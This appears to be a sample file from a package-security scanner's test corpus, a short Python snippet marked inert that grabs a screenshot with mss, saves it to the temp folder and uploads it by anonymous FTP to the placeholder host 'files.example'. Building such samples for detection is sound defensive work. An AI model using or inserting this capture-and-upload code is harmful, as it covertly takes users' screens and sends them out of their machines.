# pkgguard corpus 270 (screenshot), modelled on [stealer-profile]; inert, never run.
import ftplib
import os
import tempfile

from mss import mss as grabber

path = os.path.join(tempfile.gettempdir(), "d.png")
with grabber() as sct:
    sct.shot(output=path)
with ftplib.FTP("files.example", "anonymous", "x") as ftp, open(path, "rb") as f:
    ftp.storbinary("STOR d.png", f)
